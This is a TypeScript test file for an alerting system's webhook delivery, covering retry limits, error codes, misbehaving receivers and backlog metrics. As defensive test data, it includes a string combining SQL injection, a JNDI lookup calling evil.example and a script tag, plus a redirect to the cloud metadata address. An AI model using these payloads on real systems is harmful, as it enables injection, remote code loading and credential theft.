import assert from 'node:assert/strict'
import { test } from 'node:test'
import {
  answers,
  deliveriesOf,
  deliveryHouse,
  type Received,
  settle,
  silence,
  until,
} from '../../test-support/delivery-house.ts'
import { backlogReasons } from './webhook-backlog.ts'

// The way out cannot be closed (promise 15): what a receiver answers, what the network does, and how much an agent makes waits
// for nothing but a quarter of an hour, and what waits is reported.

const minute = 60_000
const delivered = (received: readonly Received[]) => received.map(({ data }) => data.target)

for (const [name, headers] of [
  ['31 years in seconds', { 'retry-after': '999999999' }],
  ['more digits than a number has', { 'retry-after': '9'.repeat(60) }],
  ['a date in the year 9999', { 'retry-after': 'Fri, 31 Dec 9999 23:59:59 GMT' }],
] as const) {
  test(`promise 15: a webhook that once answers 429 and ${name} is tried again within a quarter of an hour`, async (t) => {
    const { state, receiver, start, say } = await deliveryHouse(t)
    const soc = receiver()
    soc.answer = (response) => {
      response.writeHead(429, headers).end()
      soc.answer = answers(204)
    }
    const running = await start()
    await say(1)
    await until(running, () => deliveriesOf(running)[0]?.attempts === 1)
    await say(2, { target: 'another', severity: 'critical' })
    state.now += 14 * minute
    await settle(running)
    assert.equal(soc.received.length, 1, 'the rest that it asked for is kept')
    state.now += minute
    await until(running, () => deliveriesOf(running).every((delivery) => delivery.state === 'delivered'))
    assert.deepEqual(delivered(soc.received), ['mailto:evil.example', 'another', 'mailto:evil.example'])
    await running.runner.close()
  })
}

test('promise 15: 410 is reported at once and ends nothing: a receiver that is back is served, also after a restart', async (t) => {
  const { state, receiver, start, say } = await deliveryHouse(t)
  const soc = receiver()
  soc.answer = answers(410)
  const first = await start()
  await say(1)
  await until(first, () => deliveriesOf(first)[0]?.attempts === 1)
  const said = backlogReasons(first.respond.backlogs(), state.now, 5 * minute)
  assert.deepEqual(said, [
    'webhook soc does not take alerts: 1 message waits, the oldest for 0 minutes; it answered 410, that it is gone for good: correct its url in the policy, or take it out',
  ])
  state.now += minute
  await settle(first)
  assert.equal(soc.received.length, 1, 'it is left alone for a quarter of an hour')
  await first.runner.close()

  const second = await start()
  await until(second, () => deliveriesOf(second)[0]?.attempts === 2)
  soc.answer = answers(204)
  await say(2, { target: 'another' })
  state.now += 15 * minute
  await until(second, () => deliveriesOf(second).every((delivery) => delivery.state === 'delivered'))
  assert.deepEqual(backlogReasons(second.respond.backlogs(), state.now, 5 * minute), [])
  await second.runner.close()
})

test('promise 15: whatever the schedule says, a webhook is tried every quarter of an hour, and all that waits goes out when it is back', async (t) => {
  const { state, receiver, start, say } = await deliveryHouse(t)
  const soc = receiver()
  soc.answer = answers(500)
  const running = await start()
  for (const offset of [1, 2, 3]) await say(offset, { target: `t${offset}` })
  for (const wait of [0, 6_000, 6 * minute, 36 * minute]) {
    state.now += wait
    await settle(running)
  }
  assert.ok(
    deliveriesOf(running).every(({ attempts, next_attempt_at: at }) => attempts === 4 && at > state.now + 100 * minute),
  )
  const before = soc.received.length
  for (let quarter = 0; quarter < 3; quarter++) {
    state.now += 15 * minute
    await settle(running)
  }
  const probed = delivered(soc.received.slice(before))
  assert.deepEqual(probed.toSorted(), ['t1', 't2', 't3'], 'one at a time, each in its turn')
  assert.ok(
    deliveriesOf(running).every(({ attempts }) => attempts === 4),
    'none of them counts',
  )
  soc.answer = answers(503)
  state.now += 15 * minute
  await settle(running)
  soc.answer = answers(429, { 'retry-after': '60' })
  state.now += 15 * minute
  await settle(running)
  soc.answer = answers(204)
  state.now += 15 * minute
  await until(running, () => deliveriesOf(running).every((delivery) => delivery.state === 'delivered'))
  await running.runner.close()
})

test('promise 15: receivers that never answer, drip, redirect, switch protocols or hang up take nothing from a healthy one', async (t) => {
  const bad = { timeout_seconds: 60 }
  const webhooks = { mute: bad, drip: bad, away: bad, other: bad, hangup: bad, soc: {} }
  const { receiver, start, say } = await deliveryHouse(t, { webhooks })
  receiver('mute').answer = silence
  receiver('drip').answer = (response) => void response.writeHead(100).flushHeaders()
  receiver('away').answer = answers(302, { location: 'http://169.254.169.254/' })
  receiver('other').answer = (response) => {
    response.socket?.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n')
  }
  receiver('hangup').answer = (response) => response.socket?.destroy()
  const running = await start()
  for (let offset = 0; offset < 15; offset++) await say(offset, { target: `t${offset}` })
  const of = (name: string) => deliveriesOf(running).filter(({ webhook }) => webhook === name)
  await until(running, () => of('soc').length === 15 && of('soc').every(({ state }) => state === 'delivered'))
  assert.equal(receiver('mute').received.length, 4, 'four at a time, and no more')
  await until(running, () => of('other').some(({ attempts }) => attempts > 0))
  assert.match(of('other')[0]?.last_error ?? '', /closed without an answer/)
  assert.match(of('away')[0]?.last_error ?? '', /redirect, which is not followed/)
  await running.runner.close()
})

test('promise 15: thousands of small alerts that wait do not hold up a critical one', async (t) => {
  const { state, receiver, start, say } = await deliveryHouse(t)
  const soc = receiver()
  soc.answer = answers(503)
  const running = await start()
  for (let offset = 0; offset < 1500; offset++)
    await say(offset, { agent: `bot-${offset}`, target: `small ${offset}`, severity: 'low' })
  await until(running, () => deliveriesOf(running).length === 1500)
  await say(2000, { agent: 'payer', target: 'worst', severity: 'critical' })
  await say(2001, { agent: 'payer', target: 'bad', severity: 'high' })
  await until(running, () => deliveriesOf(running).length === 1502)
  await settle(running, 5)
  soc.received.length = 0
  soc.answer = answers(204)
  state.now += 6_000
  await until(running, () => soc.received.length >= 12)
  // Four go at a time, in any order, and four may have been under way.
  const first = delivered(soc.received.slice(0, 8))
  assert.ok(first.includes('worst') && first.includes('bad'), first.join(', '))
  await running.runner.close()
})

test('promise 15: a message whose text the receiver refuses goes out without anything that an agent chose', async (t) => {
  const { state, receiver, start, say } = await deliveryHouse(t)
  const soc = receiver()
  const attack = "x' OR 1=1 --$" + '{jndi:ldap://evil.example/a}<script>'
  soc.answer = (response, { text }) => {
    response.writeHead(text.includes('OR 1=1') || text.includes('jndi') ? 403 : 204).end()
  }
  const running = await start()
  await say(1, { target: attack, severity: 'critical', reasons: [`never seen: ${attack}`], event_id: attack })
  await until(running, () => deliveriesOf(running)[0]?.attempts === 1)
  state.now += 6_000
  await until(running, () => deliveriesOf(running)[0]?.state === 'delivered')
  const [, plain] = soc.received
  assert.equal(new Set(soc.received.map(({ id }) => id)).size, 1)
  assert.match(
    plain?.data.summary ?? '',
    /^invoice-bot: critical alert, new destination\. .* straylight explain alr_\w+ has it\.$/,
  )
  await running.runner.close()
})

test('promise 15: the age of what waits is a metric and a reason to be reported, counts from the evidence and survives a restart', async (t) => {
  const { state, receiver, start, say, metrics } = await deliveryHouse(t, { webhooks: { soc: {}, second: {} } })
  receiver('soc').answer = answers(500)
  const first = await start()
  await say(1)
  await until(first, () => deliveriesOf(first).some(({ state }) => state === 'delivered'))
  state.now += 20 * minute
  await settle(first)
  await first.runner.close()
  const second = await start()
  await settle(second)
  const text = await metrics.registry.metrics()
  assert.match(text, /^straylight_webhook_oldest_undelivered_seconds\{webhook="soc"\} 1200$/m)
  assert.match(text, /^straylight_webhook_oldest_undelivered_seconds\{webhook="second"\} 0$/m)
  assert.match(text, /^straylight_webhook_undelivered\{webhook="soc"\} 1$/m)
  assert.deepEqual(backlogReasons(second.respond.backlogs(), state.now, 5 * minute), [
    'webhook soc does not take alerts: 1 message waits, the oldest for 20 minutes; it answered 500',
  ])
  assert.deepEqual(backlogReasons(second.respond.backlogs(), state.now, 20 * minute), [])
  await second.runner.close()
})

test('a webhook that the policy no longer has keeps nothing waiting', async (t) => {
  const { receiver, start, say } = await deliveryHouse(t, { webhooks: { soc: {}, old: {} } })
  receiver('old').answer = answers(500)
  const first = await start()
  await say(1)
  await until(first, () => deliveriesOf(first).filter(({ attempts }) => attempts > 0).length === 2)
  await first.runner.close()
  const second = await start({ webhooks: [] })
  await until(second, () => deliveriesOf(second).filter(({ state }) => state !== 'due').length === 2)
  const states = deliveriesOf(second).map(({ webhook, state }) => [webhook, state])
  assert.deepEqual(states, [
    ['soc', 'delivered'],
    ['old', 'failed'],
  ])
  await second.runner.close()
})
